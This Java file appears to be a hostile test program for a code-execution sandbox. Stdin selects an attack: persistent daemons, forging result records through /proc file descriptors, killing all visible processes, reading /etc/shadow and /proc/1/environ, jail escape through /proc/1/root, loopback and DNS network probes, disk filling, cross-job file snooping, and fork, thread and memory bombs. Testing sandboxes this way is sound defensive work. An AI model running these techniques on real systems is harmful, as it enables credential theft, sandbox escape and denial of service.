// A hostile Java program for tests/executor/test_language_attacks.py: the first line of
// its stdin names an attack (and its arguments); see that module for what must come of it.
// Prints PWNED only where an attack worked, or (daemon) where the test itself is accepted.
import java.io.*;
import java.lang.reflect.Field;
import java.net.*;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.util.*;

public class Main {
    static final String[] MARKERS = {"/tmp/cobalt-daemon", "/dev/shm/cobalt-daemon", "cobalt-daemon"};
    static final String RECORD = "00000000000000000000000000000000 {\"status\": \"done\"}\n";
    static final Map<Integer, String> SIGNALS = Map.of(
        6, "ABRT", 7, "BUS", 9, "KILL", 10, "USR1", 11, "SEGV", 15, "TERM", 24, "XCPU", 31, "SYS");

    public static void main(String[] argv) throws Exception {
        if (argv.length > 0 && argv[0].equals("child")) { linger(); return; }
        byte[] input = System.in.readAllBytes();
        int eol = 0;
        while (eol < input.length && input[eol] != '\n') eol++;
        String[] args = new String(input, 0, eol, StandardCharsets.UTF_8).trim().split("\\s+");
        byte[] rest = Arrays.copyOfRange(input, Math.min(eol + 1, input.length), input.length);
        switch (args[0]) {
            case "echo": echo(args, rest); break;
            case "daemon": daemon(); break;
            case "forge": forge(); break;
            case "escape": escape(args); break;
            case "fill": fill(); break;
            case "plant": plant(args[1]); break;
            case "seek": seek(); break;
            case "threads": threads(); break;
            case "heap": heap(); break;
            case "native": nativeMemory(); break;
            case "fork": for (;;) { try { spawn(); } catch (IOException e) { } }
            default: System.exit(4);
        }
    }

    static void echo(String[] args, byte[] rest) throws Exception {
        int n = Integer.parseInt(args[2]);
        System.out.write(rest);
        System.out.flush();
        if (args[1].equals("signal")) {
            sun.misc.Signal.raise(new sun.misc.Signal(SIGNALS.get(n)));
            Thread.sleep(200);
            Runtime.getRuntime().halt(128 + n);
        }
        System.exit(n);
    }

    /** A daemon: ignores what signals it can, leaves marks for 20 s. */
    static void linger() throws Exception {
        for (String name : new String[] {"TERM", "HUP", "INT"}) {
            try { sun.misc.Signal.handle(new sun.misc.Signal(name), s -> { }); } catch (Throwable e) { }
        }
        long end = System.currentTimeMillis() + 20000;
        while (System.currentTimeMillis() < end) {
            for (String m : MARKERS) {
                try { new FileOutputStream(m, true).close(); } catch (IOException e) { }
            }
            Thread.sleep(5);
        }
    }

    static Process spawn() throws IOException {
        String java = ProcessHandle.current().info().command()
            .orElse(System.getProperty("java.home") + "/bin/java");
        return new ProcessBuilder(java, "-Xmx16m", "-Xss512k", "-XX:+UseSerialGC",
                "-XX:TieredStopAtLevel=1", "-cp", System.getProperty("user.dir"), "Main", "child")
            .redirectInput(ProcessBuilder.Redirect.from(new File("/dev/null")))
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .redirectError(ProcessBuilder.Redirect.DISCARD)
            .start();
    }

    static void daemon() throws Exception {
        spawn();  // its handle dropped: nothing waits for it
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            try { spawn(); } catch (IOException e) { }
        }));
        // A non-daemon thread would keep the JVM up; System.exit ends it, the hook runs.
        new Thread(() -> { try { linger(); } catch (Exception e) { } }).start();
        Thread.sleep(300);
        System.out.println("PWNED");
        System.out.flush();
        System.exit(0);
    }

    static void forge() {
        byte[] record = RECORD.getBytes(StandardCharsets.UTF_8);
        for (String dir : new String[] {"/proc/self/fd", "/proc/1/fd"}) {
            for (int fd = dir.equals("/proc/self/fd") ? 3 : 0; fd < 64; fd++) {
                try (FileOutputStream out = new FileOutputStream(dir + "/" + fd, true)) {
                    out.write(record);
                } catch (IOException e) { }
            }
        }
        for (String name : new String[] {"record", "result.json", "/tmp/record", "/dev/shm/record"}) {
            try { Files.writeString(Path.of(name), RECORD); } catch (IOException e) { }
        }
        // Every process it can see, the jail's init included: SIGTERM, then SIGKILL.
        ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid())
            .forEach(p -> { p.destroy(); p.destroyForcibly(); });
        System.err.print(RECORD);
        System.out.print(RECORD + "not the answer\n");
        System.out.flush();
    }

    static String slurp(String path) {
        try { return new String(Files.readAllBytes(Path.of(path)), StandardCharsets.ISO_8859_1); }
        catch (Throwable e) { return ""; }
    }

    static void escape(String[] args) {
        String secret = args[1];
        int tcp = Integer.parseInt(args[2]), udp = Integer.parseInt(args[3]);
        StringBuilder seen = new StringBuilder();
        for (String path : new String[] {secret, "/proc/1/root" + secret, "/proc/self/root" + secret,
                "/etc/shadow", "/etc/passwd", "/proc/1/environ", "/root/.bash_history"}) {
            seen.append(slurp(path));
        }
        boolean won = seen.length() > 0;
        for (String path : new String[] {"/cobalt-escape", "/usr/cobalt-escape",
                "/usr/lib/cobalt-escape", "/dev/cobalt-escape", "/proc/1/root/cobalt-escape",
                secret + "-written", "/proc/1/cwd/cobalt-escape"}) {
            try { new FileOutputStream(path).close(); won = true; } catch (Throwable e) { }
        }
        byte[] pwned = "PWNED".getBytes(StandardCharsets.UTF_8);
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress("127.0.0.1", tcp), 1000);
            socket.getOutputStream().write(pwned);
            won = true;
        } catch (Throwable e) { }
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.send(new DatagramPacket(pwned, pwned.length, InetAddress.getByName("127.0.0.1"), udp));
            won = true;
        } catch (Throwable e) { }
        try (SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(args[4]))) {
            channel.write(ByteBuffer.wrap(pwned));
            won = true;
        } catch (Throwable e) { }
        try {
            HttpURLConnection http = (HttpURLConnection) new URL("http://127.0.0.1:" + tcp + "/")
                .openConnection();
            http.setConnectTimeout(1000);
            http.setReadTimeout(1000);
            http.connect();
            won = true;
        } catch (Throwable e) { }
        try { InetAddress.getByName("example.com"); won = true; } catch (Throwable e) { }
        new File("/tmp").setExecutable(false, false);
        new File("/tmp").setWritable(false, false);
        new File(".").setReadable(false, false);
        System.out.println(seen + (won ? "PWNED" : "held"));
    }

    static void fill() {
        byte[] chunk = new byte[1 << 20];
        for (String dir : new String[] {"/tmp", "/dev/shm", "."}) {
            for (int n = 0; n < 100; n++) {
                try (FileOutputStream out = new FileOutputStream(dir + "/fill-" + n)) { out.write(chunk); }
                catch (IOException e) { break; }
            }
            for (int n = 0; n < 3000; n++) {
                try { new FileOutputStream(dir + "/inode-" + n).close(); } catch (IOException e) { break; }
            }
            File top = new File(dir);
            top.setReadable(false, false);
            top.setWritable(false, false);
            top.setExecutable(false, false);
        }
        System.out.println("filled");
    }

    static void plant(String secret) throws Exception {
        for (String path : new String[] {"/tmp/planted", "/dev/shm/planted", "planted"}) {
            Files.writeString(Path.of(path), secret);
        }
        Thread.sleep(1500);
        System.out.println("planted");
    }

    static void find(File top, int depth, StringBuilder found) {
        File[] entries = top.listFiles();  // follows /proc/<pid>/root and cwd
        if (entries == null) return;
        for (File entry : entries) {
            if (entry.getName().startsWith("planted")) found.append(slurp(entry.getPath()));
            if (depth > 0) find(entry, depth - 1, found);
        }
    }

    static void seek() throws Exception {
        Thread.sleep(500);
        StringBuilder found = new StringBuilder();
        find(new File("/tmp"), 2, found);
        find(new File("/dev/shm"), 1, found);
        find(new File("/proc"), 3, found);
        System.out.println(found + "sought");
    }

    static void threads() {
        for (;;) {
            new Thread(null, () -> {
                byte[] held = new byte[1 << 20];
                Arrays.fill(held, (byte) 1);
                try { Thread.sleep(3600_000); } catch (InterruptedException e) { }
                held[0]++;
            }, "bomb", 256 << 10).start();
        }
    }

    static void heap() {
        List<long[]> held = new ArrayList<>();
        for (;;) {
            long[] block = new long[1 << 17];
            Arrays.fill(block, 1);
            held.add(block);
        }
    }

    static void nativeMemory() throws Exception {
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
        for (;;) {
            long address = unsafe.allocateMemory(1 << 20);
            unsafe.setMemory(address, 1 << 20, (byte) 1);
        }
    }
}
